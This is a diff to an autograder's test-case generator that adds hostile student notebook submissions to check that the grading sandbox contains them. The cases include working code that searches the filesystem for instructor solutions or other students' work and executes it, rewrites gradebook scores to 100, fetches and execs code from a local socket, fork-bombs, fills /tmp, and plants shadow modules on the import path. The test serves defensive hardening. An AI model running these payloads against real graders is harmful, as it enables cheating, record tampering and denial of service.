@@ -15,10 +15,9 @@ import json
 import sys
 from pathlib import Path
 
-sys.path.insert(0, str(Path(__file__).resolve().parents[1]))  # autograder/, for grading
 sys.path.insert(0, str(Path(__file__).resolve().parent))      # autograder/tests, for submissions
 
-import grading  # noqa: E402
+from lstm_grader import NOTEBOOKS, demo  # noqa: E402
 from submissions import WRONG_ANSWERS  # noqa: E402
 
 NOTEBOOK = "01_num_units"
@@ -29,15 +28,15 @@ WRONG_PARAM_COUNT = WRONG_ANSWERS[NOTEBOOK]["lstm_param_count"][0]
 
 
 def student_notebook():
-    return json.loads((grading.NOTEBOOKS / f"{NOTEBOOK}.ipynb").read_text())
+    return json.loads((NOTEBOOKS / f"{NOTEBOOK}.ipynb").read_text())
 
 
 def answered(**changes):
     """The student notebook with every answer right, except `changes` = {exercise: source}.
     A source containing `{solution}` gets the solution's code put in its place."""
-    answers = grading.solution_answers(NOTEBOOK)
+    answers = demo.solution_answers(NOTEBOOK)
     answers.update({name: source.replace("{solution}", answers[name]) for name, source in changes.items()})
-    return grading.fill_answers(student_notebook(), answers)
+    return demo.fill_answers(student_notebook(), answers)
 
 
 def cell(notebook, grade_id):
@@ -72,7 +71,7 @@ def segfault():
 
 def exit_handler():
     """Code registered to run when the kernel exits. The grader kills the kernel when the notebook
-    is done, so it never runs (it would leave EXIT_HANDLER_RAN beside the autograded notebook)."""
+    is done, so it never runs (and in the sandbox it could not reach anything anyway)."""
     return one_file(answered(
         one_hot="import atexit, pathlib\natexit.register(pathlib.Path('EXIT_HANDLER_RAN').touch)\n\n{solution}"))
 
@@ -234,6 +233,180 @@ def missing_notebook():
     return {f"{NOTEBOOK}-Copy1.ipynb": one_file(answered())[f"{NOTEBOOK}.ipynb"]}
 
 
+# ------------------------------------------------------------------ i. reaching out of the kernel
+# Each of these would pay off without the sandbox (test_hostile.py runs them unsandboxed too, to show
+# it); in the sandbox each finds nothing and scores only what it answered itself.
+FIND_FILES = """\
+import os
+
+
+def find_files(name, skip=()):
+    \"\"\"Every readable file called `name` under /tmp, HOME and the working folder's ancestors.\"\"\"
+    found, seen = [], set()
+    roots = [os.getcwd(), os.path.expanduser("~"), "/tmp", "/root", "/home", "/work"]
+    here = os.getcwd()
+    while here != os.path.dirname(here):
+        here = os.path.dirname(here)
+        roots.append(here)
+    for root in roots:
+        for folder, subfolders, files in os.walk(root):
+            depth = folder[len(root):].count(os.sep)
+            subfolders[:] = [d for d in subfolders if depth < 8 and d not in (".venv", "site-packages", "proc", "sys")]
+            if folder in seen:
+                subfolders[:] = []
+                continue
+            seen.add(folder)
+            if name in files:
+                path = os.path.join(folder, name)
+                if not any(path.startswith(s) for s in skip):
+                    found.append(path)
+    return found
+"""
+
+RUN_ANSWERS = """\
+import json
+
+
+def run_answers(path):
+    \"\"\"Run every answer cell of another copy of this notebook here; True if it held answers.\"\"\"
+    cells = json.load(open(path))["cells"]
+    code = ["".join(c["source"]) for c in cells
+            if c.get("metadata", {}).get("nbgrader", {}).get("grade_id", "").startswith("answer_")]
+    if not code or any("NotImplementedError" in source or "see the first answer" in source for source in code):
+        return False
+    for source in code:
+        exec(source, globals())
+    return True
+"""
+
+
+def stub_answers(first):
+    """`first` in the first answer cell, and nothing of the student's own in the others."""
+    names = list(POINTS)
+    return answered(**{names[0]: first, **{name: "pass  # see the first answer\n" for name in names[1:]}})
+
+
+def read_solutions():
+    """Finds the instructor's solutions (through lstm_course's path, or anywhere it can look: the
+    course's solutions/ or the source/ folder of nbgrader's course folder) and runs their answers."""
+    return one_file(stub_answers(FIND_FILES + RUN_ANSWERS + """
+import lstm_course, pathlib
+
+course = pathlib.Path(lstm_course.__file__).resolve().parents[2]
+candidates = [str(course / "solutions" / "01_num_units.ipynb")] + find_files("01_num_units.ipynb")
+used = [path for path in candidates if os.path.exists(path) and ("/solutions/" in path or "/source/" in path)]
+print("solutions found:", [path for path in used if run_answers(path)])
+"""))
+
+
+def read_other_student():
+    """Looks for other students' copies of this notebook and runs the first one with answers."""
+    return one_file(stub_answers(FIND_FILES + RUN_ANSWERS + """
+others = find_files("01_num_units.ipynb", skip=(os.getcwd(),))
+print("other notebooks found:", others)
+print("answers taken from:", next((path for path in others if run_answers(path)), None))
+"""))
+
+
+def write_gradebook():
+    """All answers right; rewrites every gradebook.db (all scores 100) and grades.csv it can find."""
+    return one_file(answered(one_hot=FIND_FILES + """
+import sqlite3
+
+changed = []
+for path in find_files("gradebook.db"):
+    try:
+        with sqlite3.connect(path) as db:
+            db.execute("UPDATE grade SET manual_score = 100")
+        changed.append(path)
+    except Exception as error:
+        print("could not change", path, error)
+for path in find_files("grades.csv"):
+    try:
+        open(path, "a").write("everyone,100\\n")
+        changed.append(path)
+    except Exception as error:
+        print("could not change", path, error)
+print("record files changed:", changed)
+
+{solution}"""))
+
+
+def network():
+    """Asks a server on the grading machine for the answers (the test runs one on CONTEXT['port'])."""
+    return one_file(stub_answers(f"""
+import socket
+
+with socket.create_connection(("127.0.0.1", {CONTEXT.get("port", 9)}), timeout=5) as server:
+    server.sendall(b"answers please")
+    exec(server.recv(1_000_000).decode(), globals())
+print("answers received over the network")
+"""))
+
+
+def fork_bomb():
+    """Starts processes without end before its (right) one_hot."""
+    return one_file(answered(one_hot="import os\nwhile True:\n    os.fork()\n\n{solution}"))
+
+
+def fill_tmp():
+    """Writes into /tmp until the disk is full, before its (right) one_hot."""
+    return one_file(answered(one_hot=(
+        "with open('/tmp/filler', 'wb') as filler:\n    while True:\n        filler.write(b'x' * 2**20)\n\n"
+        "{solution}")))
+
+
+SHADOW_MODULE = """\
+import pathlib
+pathlib.Path({marker!r}).write_text("imported by " + __file__)
+raise ImportError("shadow module")
+"""
+
+
+def shadow_module():
+    """All answers right; writes keras.py, tensorflow.py, numpy.py and nbformat.py into every folder
+    it can write to, each leaving a marker file if anyone imports it."""
+    source = SHADOW_MODULE.format(marker=CONTEXT.get("marker", "/tmp/lstm-grader-shadow-imported"))
+    return one_file(answered(one_hot=f"""
+import os, sys
+
+written = []
+places = set(sys.path + [os.getcwd(), os.path.expanduser("~"), "/tmp"])
+here = os.getcwd()
+while here != os.path.dirname(here):
+    here = os.path.dirname(here)
+    places.add(here)
+for place in sorted(p for p in places if p):
+    for name in ("keras.py", "tensorflow.py", "numpy.py", "nbformat.py"):
+        try:
+            with open(os.path.join(place, name), "x") as module:
+                module.write({source!r})
+            written.append(os.path.join(place, name))
+        except OSError:
+            pass
+print("modules written:", written)
+
+{{solution}}"""))
+
+
+def print_in_recheck():
+    """one_hot is right when the notebook's own check calls it, and prints without end when the
+    grader calls it again from outside the check."""
+    return one_file(answered(one_hot="""import sys
+
+{solution}
+
+_right_one_hot = one_hot
+
+
+def one_hot(ids, depth):
+    if "checks" not in sys._getframe(1).f_code.co_filename:
+        while True:
+            print("x" * 10_000)
+    return _right_one_hot(ids, depth)
+"""))
+
+
 def all_right():
     return one_file(answered())
 
@@ -265,11 +438,25 @@ CASES = {
     "invalid_json": (invalid_json, None),
     "not_a_notebook": (not_a_notebook, None),
     "missing_notebook": (missing_notebook, None),
+    "read_solutions": (read_solutions, 0),
+    "read_other_student": (read_other_student, 0),
+    "write_gradebook": (write_gradebook, FULL),
+    "network": (network, 0),
+    "fork_bomb": (fork_bomb, FULL - 2),
+    "fill_tmp": (fill_tmp, FULL - 2),
+    "shadow_module": (shadow_module, FULL),
+    "print_in_recheck": (print_in_recheck, FULL - 2),
 }
+# What the cases above would score without the sandbox: they do pay off (test_hostile.py shows it).
+UNSANDBOXED = {"read_solutions": FULL, "read_other_student": FULL, "network": FULL}
+CONTEXT = {}  # port: where `network` asks for answers; marker: the file `shadow_module` leaves when imported
 
 
-def write(folder, names=None):
-    """Write the named cases (all by default) as student folders under `folder`."""
+def write(folder, names=None, **context):
+    """Write the named cases (all by default) as student folders under `folder`; `context` gives
+    `network` its port and `shadow_module` its marker file."""
+    CONTEXT.clear()
+    CONTEXT.update(context)
     folder = Path(folder)
     for name in names or CASES:
         for relative, text in CASES[name][0]().items():
